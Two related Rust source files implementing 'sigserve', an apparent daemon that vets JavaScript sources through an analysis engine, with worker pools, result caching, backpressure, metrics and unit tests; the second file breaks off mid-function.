    if shared.shutting_down.swap(true, Ordering::SeqCst) {
        return; // someone else already did
    }
    shared.queue.shutdown();
    if let Some(addr) = shared.addr {
        // Unblock the acceptor's blocking accept() with a throwaway
        // connection; it re-checks the flag after every accept.
        let _ = TcpStream::connect(addr);
    }
}

/// The protocol loop: read request lines, write response lines. Returns
/// `true` if the peer requested shutdown (vs. just disconnecting).
fn serve_lines(
    shared: &Shared,
    reader: impl BufRead,
    mut writer: impl Write,
) -> io::Result<bool> {
    for line in reader.lines() {
        let line = line?;
        if line.trim().is_empty() {
            continue;
        }
        let (resp, is_shutdown) = respond(shared, parse_request(&line));
        // Single write per response line (see Client::raw_line: split
        // writes interact badly with Nagle + delayed ACK).
        let mut framed = resp.to_string_compact();
        framed.push('\n');
        writer.write_all(framed.as_bytes())?;
        writer.flush()?;
        if is_shutdown {
            initiate_shutdown(shared);
            return Ok(true);
        }
    }
    Ok(false)
}

fn spawn_workers(shared: &Arc<Shared>) -> Vec<JoinHandle<()>> {
    (0..shared.workers)
        .map(|i| {
            let shared = Arc::clone(shared);
            std::thread::Builder::new()
                .name(format!("sigserve-worker-{i}"))
                .spawn(move || worker_loop(&shared))
                .expect("spawn worker thread")
        })
        .collect()
}

/// A running TCP daemon. Dropping the handle does *not* stop it; send a
/// `shutdown` request (or call [`Server::stop`]) and then [`Server::join`].
pub struct Server {
    shared: Arc<Shared>,
    addr: SocketAddr,
    acceptor: JoinHandle<()>,
    workers: Vec<JoinHandle<()>>,
}

impl Server {
    /// Binds `addr` (e.g. `127.0.0.1:0` for an ephemeral port), spawns
    /// the worker pool and the acceptor, and returns immediately.
    pub fn bind<F>(addr: &str, cfg: ServeConfig, analyze: F) -> io::Result<Server>
    where
        F: Fn(&str, &AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync + 'static,
    {
        let listener = TcpListener::bind(addr)?;
        let local = listener.local_addr()?;
        let shared = Arc::new(Shared::new(cfg, Box::new(analyze), Some(local)));
        let workers = spawn_workers(&shared);
        let acceptor = {
            let shared = Arc::clone(&shared);
            std::thread::Builder::new()
                .name("sigserve-acceptor".to_owned())
                .spawn(move || loop {
                    match listener.accept() {
                        Ok((stream, _)) => {
                            if shared.shutting_down.load(Ordering::SeqCst) {
                                break;
                            }
                            let shared = Arc::clone(&shared);
                            // Handlers are detached: they die with their
                            // connection, and join() only waits for the
                            // acceptor + workers.
                            std::thread::spawn(move || handle_conn(&shared, stream));
                        }
                        Err(_) => {
                            if shared.shutting_down.load(Ordering::SeqCst) {
                                break;
                            }
                        }
                    }
                })
                .expect("spawn acceptor thread")
        };
        Ok(Server {
            shared,
            addr: local,
            acceptor,
            workers,
        })
    }

    /// The bound address (resolves `:0` to the real ephemeral port).
    pub fn local_addr(&self) -> SocketAddr {
        self.addr
    }

    /// A `stats`-shaped snapshot for in-process harnesses (the bench
    /// tool), without a round-trip through the protocol.
    pub fn stats(&self) -> Json {
        with_kind("stats", self.shared.stats_body())
    }

    /// Initiates shutdown from the owning process (equivalent to a
    /// `shutdown` protocol request, minus the ack).
    pub fn stop(&self) {
        initiate_shutdown(&self.shared);
    }

    /// Waits for the acceptor and workers to finish. Call after a
    /// `shutdown` request or [`Server::stop`]; joining a running server
    /// blocks until one of those happens.
    pub fn join(self) {
        let _ = self.acceptor.join();
        for w in self.workers {
            let _ = w.join();
        }
        self.shared.maybe_dump_metrics();
    }

    /// A snapshot of the daemon's metrics registry for in-process
    /// harnesses (the bench tool), without a protocol round-trip.
    pub fn metrics_snapshot(&self) -> crate::MetricsSnapshot {
        self.shared.metrics.snapshot()
    }
}

fn handle_conn(shared: &Shared, stream: TcpStream) {
    let _ = stream.set_nodelay(true);
    let Ok(reader) = stream.try_clone() else {
        return;
    };
    // Any I/O error (peer vanished mid-request) just ends the connection.
    let _ = serve_lines(shared, BufReader::new(reader), stream);
}

/// Runs the daemon over stdin/stdout: the protocol loop on the calling
/// thread, analyses on the worker pool. Returns after a `shutdown`
/// request or stdin EOF, with all accepted jobs completed.
pub fn serve_stdio<F>(cfg: ServeConfig, analyze: F) -> io::Result<()>
where
    F: Fn(&str, &AnalysisConfig, &MetricsRegistry) -> VetOutcome + Send + Sync + 'static,
{
    let shared = Arc::new(Shared::new(cfg, Box::new(analyze), None));
    let workers = spawn_workers(&shared);
    let result = serve_lines(&shared, io::stdin().lock(), io::stdout().lock());
    initiate_shutdown(&shared);
    for w in workers {
        let _ = w.join();
    }
    shared.maybe_dump_metrics();
    result.map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    /// A fast stub engine: "ok" for anything, "timeout" for sources
    /// containing the marker, error for sources containing "!".
    fn stub(source: &str, _config: &AnalysisConfig, metrics: &MetricsRegistry) -> VetOutcome {
        metrics.add("stub_calls", 1);
        if source.contains("@timeout") {
            VetOutcome::timeout(999, Duration::from_micros(77))
        } else if source.contains('!') {
            VetOutcome::error("stub parse error")
        } else {
            VetOutcome::report(
                format!("{{\n  \"len\": {}\n}}", source.len()),
                crate::PhaseTimings::new(
                    Duration::from_micros(30),
                    Duration::from_micros(20),
                    Duration::from_micros(10),
                ),
            )
        }
    }

    fn shared_with(cfg: ServeConfig) -> Shared {
        Shared::new(cfg, Box::new(stub), None)
    }

    #[test]
    fn respond_vet_computes_then_caches() {
        let shared = shared_with(ServeConfig::default());
        let workers = {
            // No worker pool in this unit test: drive the queue inline.
            let item = VetItem {
                name: Some("a".to_owned()),
                source: Source::Inline("var x = 1;".to_owned()),
            };
            let pending = submit_vet(&shared, item);
            let job = shared.queue.pop().expect("job queued");
            let core = compute(&shared, job.key, &job.source);
            job.resp.send(core).unwrap();
            let resp = await_vet(pending);
            assert_eq!(resp["verdict"], "ok");
            assert_eq!(resp["cached"], Json::Bool(false));
            assert_eq!(resp["signature"]["len"].as_f64(), Some(10.0));
            resp
        };
        let _ = workers;
        // Second submission of identical content: answered from cache
        // without touching the queue.
        let item = VetItem {
            name: None,
            source: Source::Inline("var x = 1;".to_owned()),
        };
        match submit_vet(&shared, item) {
            PendingVet::Ready(resp) => {
                assert_eq!(resp["cached"], Json::Bool(true));
                assert_eq!(resp["verdict"], "ok");
            }
            PendingVet::Waiting { .. } => panic!("expected a cache hit"),
        }
        assert!(shared.queue.is_empty());
    }

    #[test]
    fn overload_sheds_with_typed_response() {
        let cfg = ServeConfig {
            queue_cap: 1,
            ..ServeConfig::default()
        };
        let shared = shared_with(cfg);
        let first = submit_vet(
            &shared,
            VetItem {
                name: None,
                source: Source::Inline("one".to_owned()),
            },
        );
        assert!(matches!(first, PendingVet::Waiting { .. }));
        let second = submit_vet(
            &shared,
            VetItem {
                name: Some("b".to_owned()),
                source: Source::Inline("two".to_owned()),
            },
        );
        match second {
            PendingVet::Ready(resp) => {
                assert_eq!(resp["kind"], "overloaded");
                assert_eq!(resp["capacity"].as_f64(), Some(1.0));
            }
            PendingVet::Waiting { .. } => panic!("expected overload"),
        }
        assert_eq!(
            shared.stats.jobs_rejected.load(Ordering::Relaxed),
            1,
            "rejection must be counted"
        );
    }

    #[test]
    fn timeout_and_error_cores() {
        let shared = shared_with(ServeConfig::default());
        let t = compute(&shared, 1, "@timeout");
        assert_eq!(t["verdict"], "timeout");
        assert_eq!(t["steps"].as_f64(), Some(999.0));
        let e = compute(&shared, 2, "oops!");
        assert_eq!(e["verdict"], "error");
        assert_eq!(shared.stats.budget_aborts.load(Ordering::Relaxed), 1);
        assert_eq!(shared.stats.analysis_errors.load(Ordering::Relaxed), 1);
        // Deadline-ish timeouts (no step budget configured) are not
        // cached; errors are.
        assert!(shared.lock_cache().peek(1).is_none());
        assert!(shared.lock_cache().peek(2).is_some());
    }

    #[test]
    fn step_budget_timeouts_are_cached() {
        let mut cfg = ServeConfig::default();
        cfg.analysis.step_budget = Some(10);
        let shared = Shared::new(
            cfg,
            Box::new(|_: &str, _: &AnalysisConfig, _: &MetricsRegistry| {
                VetOutcome::timeout(11, Duration::from_micros(5))
            }),
            None,
        );
        let t = compute(&shared, 9, "whatever");
        assert_eq!(t["verdict"], "timeout");
        assert!(shared.lock_cache().peek(9).is_some());
    }

    #[test]
    fn end_to_end_over_tcp_with_stub_engine() {
        let server =
            Server::bind("127.0.0.1:0", ServeConfig::default(), stub).expect("bind");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let r1 = client.vet_source(Some("a"), "var a;").unwrap();
        assert_eq!(r1["verdict"], "ok");
        assert_eq!(r1["cached"], Json::Bool(false));
        let r2 = client.vet_source(Some("a"), "var a;").unwrap();
        assert_eq!(r2["cached"], Json::Bool(true));
        let stats = client.stats().unwrap();
        assert_eq!(stats["cache"]["hits"].as_f64(), Some(1.0));
        assert_eq!(stats["jobs"]["completed"].as_f64(), Some(1.0));
        // The metrics registry rides along in every stats response: the
        // daemon's own counters plus whatever the engine recorded.
        let metrics = &stats["metrics"];
        assert_eq!(metrics["counters"]["serve_cache_hits"].as_f64(), Some(1.0));
        assert_eq!(metrics["counters"]["serve_cache_misses"].as_f64(), Some(1.0));
        assert_eq!(metrics["counters"]["stub_calls"].as_f64(), Some(1.0));
        assert_eq!(
            metrics["histograms"]["serve_vet_us"]["count"].as_f64(),
            Some(1.0)
        );
        let ack = client.shutdown().unwrap();
        assert_eq!(ack["kind"], "shutdown_ack");
        assert_eq!(ack["stats"]["jobs"]["accepted"].as_f64(), Some(1.0));
        server.join();
    }

    #[test]
    fn batch_pipelines_and_preserves_order() {
        let server =
            Server::bind("127.0.0.1:0", ServeConfig::default(), stub).expect("bind");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let mut req = Json::obj();
        req.set("kind", Json::from("vet_batch"));
        req.set(
            "items",
            Json::Arr(
                (0..6)
                    .map(|i| {
                        let mut o = Json::obj();
                        o.set("name", Json::from(format!("n{i}")));
                        o.set("source", Json::from(format!("var v{i};")));
                        o
                    })
                    .collect(),
            ),
        );
        let resp = client.request(&req).unwrap();
        assert_eq!(resp["kind"], "vet_batch_result");
        let results = resp["results"].as_array().unwrap();
        assert_eq!(results.len(), 6);
        for (i, r) in results.iter().enumerate() {
            assert_eq!(r["name"].as_str(), Some(format!("n{i}").as_str()));
            assert_eq!(r["verdict"], "ok");
        }
        client.shutdown().unwrap();
        server.join();
    }

    #[test]
    fn malformed_lines_get_error_responses_and_daemon_survives() {
        let server =
            Server::bind("127.0.0.1:0", ServeConfig::default(), stub).expect("bind");
        let mut client = crate::Client::connect(server.local_addr()).expect("connect");
        let resp = client.raw_line("this is not json").unwrap();
        assert_eq!(resp["kind"], "error");
        let resp = client.raw_line(r#"{"kind":"frobnicate"}"#).unwrap();
        assert_eq!(resp["kind"], "error");
        let ok = client.vet_source(None, "still alive").unwrap();
        assert_eq!(ok["verdict"], "ok");
        let stats = client.stats().unwrap();
        assert_eq!(stats["jobs"]["protocol_errors"].as_f64(), Some(2.0));
        client.shutdown().unwrap();
        server.join();
    }
}
