//! The daemon itself: shared state, the worker pool, the event-driven
//! connection core, and the TCP / stdio front ends.
//!
//! TCP connections are served by a single readiness-driven event loop
//! (`sigserve-loop`) over nonblocking sockets and a [`crate::poller`]
//! backend (epoll on Linux, `poll(2)` fallback): thousands of idle or
//! slow connections cost one registered fd each, not one parked thread.
//! Inbound bytes reassemble into NDJSON lines via [`crate::conn::LineBuf`];
//! outbound responses queue in a per-connection [`crate::conn::WriteBuf`]
//! so a client that stops reading exerts *backpressure* instead of
//! blocking a handler: past a soft cap its new vet items are shed with a
//! typed `overloaded` (reason `write_backpressure`) response, and past
//! the hard cap the connection is closed. Workers never touch sockets —
//! they post finished cores to a completion queue and wake the loop
//! through a pipe, which also decouples request *deadlines* (answered
//! `timeout` by the loop) from worker scheduling.
//!
//! Data flow for one `vet` request:
//!
//! ```text
//! event loop ──cache get──> hit ──> respond (cached:true, µs)
//!      │ miss
//!      ├─ queue full ──> respond overloaded (typed backpressure)
//!      └─ try_push(Job{key, source, resp}) ──> worker pool
//!                                                │ peek cache (dedupe)
//!                                                │ analyze under budget
//!                                                │ insert cache
//!      completion queue + waker pipe <──post──── core result
//! ```
//!
//! Workers never die on behalf of a job: a runaway analysis is cut off by
//! the step budget / deadline inside `jsanalysis` and comes back as a
//! `timeout` core result like any other, and an analysis that panics
//! outright is contained with `catch_unwind` — counted in
//! `serve_worker_panics`, logged, answered as an error verdict — while
//! the worker keeps serving. Shared-state mutexes recover from
//! poisoning rather than propagate it, so a single panic can never
//! cascade into every subsequent handler.
//!
//! Construction goes through [`Server::builder`]; the legacy
//! `bind`/`bind_traced`/`serve_stdio`/`serve_stdio_traced` entry points
//! remain as deprecated shims.

use crate::cache::{cache_key, SigCache};
use crate::conn::{LineBuf, WriteBuf};
use crate::poller::{self, Backend, Interest, Poller, WakeRx};
use crate::protocol::{
    backpressure_response, error_response, metrics_response, overloaded_response, parse_request,
    vet_response, Request, Source, VetItem,
};
use crate::queue::{Bounded, PushError};
use crate::stats::{metrics_json, Stats};
use crate::{AnalyzeJobFn, MetricsRegistry, MetricsSnapshot, VetOutcome};
use jsanalysis::AnalysisConfig;
use minijson::Json;
use sigobs::{EventLog, Level, LogTracer};
use sigtrace::Trace;
use std::collections::{HashMap, VecDeque};
use std::io::{self, BufRead, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{mpsc, Arc, Mutex, PoisonError};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Daemon configuration (the `vet serve` flags).
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Worker threads running analyses (default 4).
    pub workers: usize,
    /// Result-cache capacity in entries (default 1024; 0 disables).
    pub cache_cap: usize,
    /// Job-queue bound; pushes beyond it are shed with `overloaded`
    /// (default `workers * 8`).
    pub queue_cap: usize,
    /// The analysis configuration every job runs under, including the
    /// `step_budget` / `deadline` robustness knobs. Ignored when
    /// [`ServeConfig::ladder`] is set (each rung carries its own).
    pub analysis: AnalysisConfig,
    /// Escalation ladder (`vet serve --ladder`): run every job through
    /// the spec's rungs, cheapest first, escalating on non-benign flows
    /// or budget exhaustion. Verdicts are stamped with the producing
    /// tier, and the cache keys by the *ladder's* canonical string — a
    /// tier-0 result can never be served to a different configuration.
    /// Default `None`: single-tier operation under
    /// [`ServeConfig::analysis`].
    pub ladder: Option<jsanalysis::LadderSpec>,
    /// Dump the metrics-registry snapshot to stderr when the daemon
    /// shuts down (default `false`; `vet serve` turns it on). Off by
    /// default so embedded servers — tests, benches — stay quiet.
    pub dump_metrics_on_shutdown: bool,
    /// Structured event log (`vet serve --log FILE` / `--log-level`).
    /// Every job lifecycle event, keyed by the job's request ID, goes
    /// here; the ring tail also rides along in `stats` responses.
    /// Default `None`: no logging overhead at all.
    pub log: Option<Arc<EventLog>>,
    /// Metrics-history directory (`vet serve --metrics-dir D`). When
    /// set, a background thread snapshots the merged metrics into a
    /// bounded on-disk ring every [`ServeConfig::metrics_interval`], so
    /// metrics survive restarts. Default `None`.
    pub metrics_dir: Option<PathBuf>,
    /// Snapshot interval for the history thread (default 5 s).
    pub metrics_interval: Duration,
    /// On-disk history ring capacity in snapshots (default 256).
    pub metrics_history_cap: u64,
    /// In-daemon alert rules (`vet serve --alert-rules FILE`): the
    /// `metrics-report --gate` rule language, evaluated by the history
    /// thread against every appended snapshot. Threshold crossings emit
    /// `alert_fired` / `alert_cleared` log events. Needs
    /// [`ServeConfig::metrics_dir`]; default `None`.
    pub alert_rules: Option<sigobs::alerts::AlertRules>,
    /// Close a TCP connection that has been completely quiet — no
    /// buffered input, no pending jobs, nothing left to write — for this
    /// long (`vet serve --idle-timeout-ms`). Default `None`: never.
    pub idle_timeout: Option<Duration>,
    /// Answer an in-flight vet request with a typed `timeout` (reason
    /// `deadline`) if its worker has not finished within this budget
    /// (`vet serve --request-deadline-ms`); the worker keeps running and
    /// its eventual result still lands in the cache. Default `None`.
    pub request_deadline: Option<Duration>,
    /// Soft cap on a connection's queued outbound bytes (default
    /// 256 KiB). Past it, new vet items on that connection are shed with
    /// a typed `write_backpressure` response; past **4×** this cap the
    /// connection is closed outright.
    pub outbuf_cap: usize,
    /// Longest accepted request line in bytes (default 64 MiB). An
    /// unterminated line beyond it gets an error response and the
    /// connection is drained and closed.
    pub max_line_bytes: usize,
    /// Readiness backend for the event loop (default: epoll on Linux,
    /// `poll(2)` elsewhere). Tests pin [`Backend::Poll`] to keep the
    /// fallback honest.
    pub poller_backend: Backend,
}

impl Default for ServeConfig {
    fn default() -> ServeConfig {
        let workers = 4;
        ServeConfig {
            workers,
            cache_cap: 1024,
            queue_cap: workers * 8,
            analysis: AnalysisConfig::default(),
            ladder: None,
            dump_metrics_on_shutdown: false,
            log: None,
            metrics_dir: None,
            metrics_interval: Duration::from_secs(5),
            metrics_history_cap: 256,
            alert_rules: None,
            idle_timeout: None,
            request_deadline: None,
            outbuf_cap: 256 * 1024,
            max_line_bytes: 64 * 1024 * 1024,
            poller_backend: Backend::default(),
        }
    }
}

/// Where a finished job's core result goes: a blocking channel (stdio
/// front end, unit tests) or the event loop's completion queue.
enum Completion {
    /// The submitter blocks on the paired receiver (`await_vet`).
    Channel(mpsc::Sender<Json>),
    /// The submitter is the event loop: post under the job token and
    /// wake it.
    Posted {
        token: u64,
        queue: Arc<CompletionQueue>,
    },
}

impl Completion {
    fn deliver(self, core: Json) {
        match self {
            // A disconnected submitter is fine; the result is cached
            // anyway.
            Completion::Channel(tx) => {
                let _ = tx.send(core);
            }
            Completion::Posted { token, queue } => queue.post(token, core),
        }
    }
}

/// Finished cores posted by workers for the event loop, plus the waker
/// that interrupts its parked [`Poller::wait`].
struct CompletionQueue {
    done: Mutex<Vec<(u64, Json)>>,
    waker: poller::Waker,
}

impl CompletionQueue {
    fn new(waker: poller::Waker) -> CompletionQueue {
        CompletionQueue {
            done: Mutex::new(Vec::new()),
            waker,
        }
    }

    fn post(&self, token: u64, core: Json) {
        self.done
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .push((token, core));
        self.waker.wake();
    }

    fn drain(&self) -> Vec<(u64, Json)> {
        std::mem::take(&mut *self.done.lock().unwrap_or_else(PoisonError::into_inner))
    }

    fn wake(&self) {
        self.waker.wake();
    }
}

/// One queued vetting job.
struct Job {
    /// Request ID (`j-<n>`), carried through the queue so the worker's
    /// log records correlate with the submitting handler's.
    id: String,
    key: u64,
    source: String,
    resp: Completion,
    /// When the job entered the queue; the dequeuing worker turns it
    /// into the `serve_queue_wait_us` histogram and the `queue_wait_us`
    /// field on `job_dequeued`.
    enq: Instant,
}

/// State shared by the event loop, stdio front end, and workers.
struct Shared {
    analysis: AnalysisConfig,
    /// The escalation ladder, when the daemon runs in ladder mode.
    ladder: Option<jsanalysis::LadderSpec>,
    /// The config half of every cache key, computed once:
    /// `analysis.canonical_string()`, or the ladder's canonical string
    /// in ladder mode (tier identity — a ladder verdict depends on every
    /// rung, so it can never alias a single-tier entry).
    config_canon: String,
    workers: usize,
    queue: Bounded<Job>,
    cache: Mutex<SigCache>,
    stats: Stats,
    metrics: MetricsRegistry,
    analyze: Box<AnalyzeJobFn>,
    shutting_down: AtomicBool,
    dump_metrics_on_shutdown: bool,
    /// Structured event log, shared with whoever configured it.
    log: Option<Arc<EventLog>>,
    /// Source of per-job request IDs (`j-<n>`).
    job_seq: AtomicU64,
    metrics_dir: Option<PathBuf>,
    metrics_interval: Duration,
    metrics_history_cap: u64,
    alert_rules: Option<sigobs::alerts::AlertRules>,
    idle_timeout: Option<Duration>,
    request_deadline: Option<Duration>,
    outbuf_cap: usize,
    max_line_bytes: usize,
    /// The event loop's completion queue in TCP mode; `None` in stdio
    /// mode and unit tests. Shutdown wakes the loop through its waker.
    completions: Option<Arc<CompletionQueue>>,
}

impl Shared {
    fn new(
        cfg: ServeConfig,
        analyze: Box<AnalyzeJobFn>,
        completions: Option<Arc<CompletionQueue>>,
    ) -> Shared {
        Shared {
            config_canon: match &cfg.ladder {
                Some(ladder) => ladder.canonical_string(),
                None => cfg.analysis.canonical_string(),
            },
            ladder: cfg.ladder,
            workers: cfg.workers.max(1),
            queue: Bounded::new(cfg.queue_cap.max(1)),
            cache: Mutex::new(SigCache::new(cfg.cache_cap)),
            stats: Stats::default(),
            metrics: MetricsRegistry::new(),
            analysis: cfg.analysis,
            analyze,
            shutting_down: AtomicBool::new(false),
            dump_metrics_on_shutdown: cfg.dump_metrics_on_shutdown,
            log: cfg.log,
            job_seq: AtomicU64::new(0),
            metrics_dir: cfg.metrics_dir,
            metrics_interval: cfg.metrics_interval,
            metrics_history_cap: cfg.metrics_history_cap,
            alert_rules: cfg.alert_rules,
            idle_timeout: cfg.idle_timeout,
            request_deadline: cfg.request_deadline,
            outbuf_cap: cfg.outbuf_cap.max(1024),
            max_line_bytes: cfg.max_line_bytes.max(1024),
            completions,
        }
    }

    fn lock_cache(&self) -> std::sync::MutexGuard<'_, SigCache> {
        // Recover, don't propagate: the LRU map stays structurally valid
        // if a holder panics, and propagating poison would turn one
        // panicking worker into a daemon-wide crash cascade.
        self.cache.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn next_job_id(&self) -> String {
        format!("j-{}", self.job_seq.fetch_add(1, Ordering::Relaxed))
    }

    fn log_event(&self, level: Level, event: &str, fields: &[(&str, Json)]) {
        if let Some(log) = &self.log {
            log.log(level, event, fields);
        }
    }

    /// The registry snapshot plus the daemon's own `Stats` counters and
    /// cache occupancy, under `serve_`-prefixed names — what `metrics`
    /// responses and the on-disk history both render, so the exposition
    /// covers the whole daemon, not just what the engine recorded.
    fn merged_snapshot(&self) -> MetricsSnapshot {
        let mut snap = self.metrics.snapshot();
        let read = |c: &std::sync::atomic::AtomicU64| c.load(Ordering::Relaxed);
        let cache = self.lock_cache().counters();
        let extra = [
            ("serve_jobs_accepted", read(&self.stats.jobs_accepted)),
            ("serve_jobs_rejected", read(&self.stats.jobs_rejected)),
            ("serve_jobs_completed", read(&self.stats.jobs_completed)),
            ("serve_protocol_errors", read(&self.stats.protocol_errors)),
            ("serve_cache_entries", cache.entries),
            ("serve_cache_evictions", cache.evictions),
            ("serve_conns_open", read(&self.stats.conns_open)),
            ("serve_conn_accepted", read(&self.stats.conn_accepted)),
            ("serve_conn_closed", read(&self.stats.conn_closed)),
            (
                "serve_conn_backpressure_sheds",
                read(&self.stats.conn_backpressure_sheds),
            ),
            ("serve_deadline_misses", read(&self.stats.deadline_misses)),
        ];
        for (name, v) in extra {
            snap.counters.push((name.to_owned(), v));
        }
        snap.counters.sort();
        snap
    }

    fn stats_body(&self) -> Json {
        let mut body = self.stats.snapshot(
            self.lock_cache().counters(),
            self.workers,
            self.queue.len(),
            self.queue.capacity(),
        );
        body.set("metrics", metrics_json(&self.metrics.snapshot()));
        if let Some(log) = &self.log {
            // The in-memory ring tail: the last ~128 structured events,
            // so an operator gets recent history from a stats round-trip
            // even with no log file configured.
            body.set("log_tail", Json::Arr(log.tail()));
        }
        body
    }

    /// The shutdown dump: one compact JSON line on stderr so a service
    /// operator gets the full registry even without a final `stats`
    /// round-trip. Gated by `ServeConfig::dump_metrics_on_shutdown`.
    fn maybe_dump_metrics(&self) {
        if self.dump_metrics_on_shutdown {
            let snap = metrics_json(&self.metrics.snapshot());
            eprintln!("sigserve metrics: {}", snap.to_string_compact());
        }
    }
}

/// Runs one job's analysis, updates the counters, and caches the core
/// result. Deadline-based timeouts are *not* cached: they depend on
/// machine load, so a later resubmission deserves a fresh attempt, while
/// step-budget timeouts are deterministic and cache fine.
fn compute(shared: &Shared, key: u64, source: &str, job: &str) -> Json {
    let t0 = Instant::now();
    // Thread the job's request ID into the pipeline: at debug level
    // a LogTracer turns phase spans into `span` log events tagged
    // with this job's ID; otherwise the engine sees Trace::Off.
    let mut tracer = shared
        .log
        .as_ref()
        .filter(|l| l.enabled(Level::Debug))
        .map(|l| LogTracer::new(l, job));
    // Which configuration decides cacheability: the terminal rung's in
    // ladder mode (only its budget kind determines whether the timeout
    // was deterministic), the daemon's single config otherwise.
    let (outcome, cache_cfg) = match &shared.ladder {
        Some(ladder) => {
            // run_ladder logs every attempt's job_computed (tier-stamped),
            // the job_escalated transitions, and the terminal postmortem.
            let run = crate::run_ladder(
                ladder,
                &shared.metrics,
                shared.log.as_deref(),
                job,
                &mut |config| {
                    let trace = match tracer.as_mut() {
                        Some(t) => Trace::On(t),
                        None => Trace::Off,
                    };
                    (shared.analyze)(source, config, &shared.metrics, trace)
                },
            );
            let cfg = &ladder.rungs[run.rung].config;
            (run.outcome, cfg.clone())
        }
        None => {
            let trace = match tracer.as_mut() {
                Some(t) => Trace::On(t),
                None => Trace::Off,
            };
            let outcome = (shared.analyze)(source, &shared.analysis, &shared.metrics, trace);
            // Single-tier: compute() owns the job_computed record and the
            // postmortem (in ladder mode run_ladder already wrote both).
            if let Some(log) = &shared.log {
                crate::log_job_computed(log, job, &outcome);
                crate::log_job_profile(log, job, &outcome);
            }
            (outcome, shared.analysis.clone())
        }
    };
    let vet = t0.elapsed();
    shared.stats.record_vet(vet);
    shared
        .metrics
        .record("serve_vet_us", vet.as_micros().min(u128::from(u64::MAX)) as u64);
    match &outcome {
        VetOutcome::Report { timings, .. } => {
            shared.stats.record_phases(timings.p1, timings.p2, timings.p3);
        }
        VetOutcome::Timeout { .. } => {
            Stats::incr(&shared.stats.budget_aborts);
            shared.metrics.add("serve_budget_aborts", 1);
        }
        VetOutcome::Error { .. } => {
            Stats::incr(&shared.stats.analysis_errors);
            shared.metrics.add("serve_analysis_errors", 1);
        }
    }
    let core = outcome.core_json();
    if outcome.cacheable(&cache_cfg) {
        shared.lock_cache().insert(key, core.clone(), job);
        shared.log_event(Level::Debug, "cache_insert", &[("job", Json::from(job))]);
    }
    core
}

/// Best-effort text of a panic payload (`&str` / `String` downcasts).
fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_owned()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_owned()
    }
}

fn worker_loop(shared: &Shared) {
    while let Some(job) = shared.queue.pop() {
        let wait_us = job.enq.elapsed().as_micros().min(u128::from(u64::MAX)) as u64;
        shared.metrics.record("serve_queue_wait_us", wait_us);
        shared.log_event(
            Level::Info,
            "job_dequeued",
            &[
                ("job", Json::from(job.id.as_str())),
                ("queue_wait_us", Json::from(wait_us as f64)),
            ],
        );
        // Dedupe racing submissions of the same content: another worker
        // may have finished this key while the job sat in the queue.
        // (Bound before the match: a guard temporary in the scrutinee
        // would still be held when compute() re-locks the cache.)
        let cached = shared.lock_cache().peek(job.key);
        let core = match cached {
            Some((hit, producer)) => {
                shared.log_event(
                    Level::Info,
                    "cache_hit",
                    &[
                        ("job", Json::from(job.id.as_str())),
                        ("producer", Json::from(producer)),
                    ],
                );
                hit
            }
            None => {
                // A panicking analysis must cost exactly one job, not
                // the worker (and with it the daemon): contain it, count
                // it, and answer the submitter with an error verdict.
                match catch_unwind(AssertUnwindSafe(|| {
                    compute(shared, job.key, &job.source, &job.id)
                })) {
                    Ok(core) => core,
                    Err(payload) => {
                        let msg = panic_message(payload.as_ref());
                        shared.metrics.add("serve_worker_panics", 1);
                        shared.log_event(
                            Level::Error,
                            "worker_panic",
                            &[
                                ("job", Json::from(job.id.as_str())),
                                ("message", Json::from(msg.as_str())),
                            ],
                        );
                        // Terminal lifecycle for replay: the job *was*
                        // computed, with an error verdict. Not cached —
                        // a resubmission deserves a fresh attempt.
                        shared.log_event(
                            Level::Warn,
                            "job_computed",
                            &[
                                ("job", Json::from(job.id.as_str())),
                                ("verdict", Json::from("error")),
                                ("message", Json::from(msg.as_str())),
                            ],
                        );
                        VetOutcome::error(format!("worker panicked: {msg}")).core_json()
                    }
                }
            }
        };
        Stats::incr(&shared.stats.jobs_completed);
        job.resp.deliver(core);
    }
}

/// A submitted-but-not-yet-answered vet item, so batches can pipeline
/// all submissions across the worker pool before collecting any result.
enum PendingVet {
    /// Answered without a worker (cache hit, overload, bad path, ...);
    /// any terminal log events were already written at submit time.
    Ready(Json),
    /// In the worker pool; await the core result on the channel.
    Waiting {
        id: String,
        name: Option<String>,
        rx: mpsc::Receiver<Json>,
        t0: Instant,
    },
}

/// What `submit_vet_with` did with an item: answered it immediately, or
/// enqueued it (the caller's `make_resp` closure was invoked exactly
/// once to wire up the completion path).
enum Submitted {
    /// Answered without a worker; terminal log events already written.
    Ready(Json),
    /// Admitted to the worker queue under `id`.
    Enqueued {
        id: String,
        name: Option<String>,
        t0: Instant,
    },
}

/// The submission path shared by the blocking front end and the event
/// loop: cache probe, shed-on-overload, enqueue. `make_resp` is called
/// exactly once, at the moment a job is actually pushed, so each caller
/// chooses how the finished core comes back (channel vs. posted).
fn submit_vet_with(
    shared: &Shared,
    item: VetItem,
    make_resp: &mut dyn FnMut() -> Completion,
) -> Submitted {
    let t0 = Instant::now();
    let (name, source) = match item.source {
        Source::Inline(s) => (item.name, s),
        Source::Path(p) => match std::fs::read_to_string(&p) {
            // A path submission defaults its display name to the path.
            Ok(s) => (item.name.or(Some(p)), s),
            Err(e) => {
                // Failed before entering the system: no job ID assigned,
                // logged as daemon narration rather than a lifecycle.
                shared.log_event(
                    Level::Warn,
                    "vet_path_error",
                    &[
                        ("path", Json::from(p.as_str())),
                        ("error", Json::from(format!("{e}"))),
                    ],
                );
                let mut core = Json::obj();
                core.set("verdict", Json::from("error"));
                core.set("message", Json::from(format!("{p}: {e}")));
                return Submitted::Ready(vet_response(
                    &core,
                    item.name.as_deref().or(Some(&p)),
                    None,
                    false,
                    t0.elapsed().as_micros(),
                ));
            }
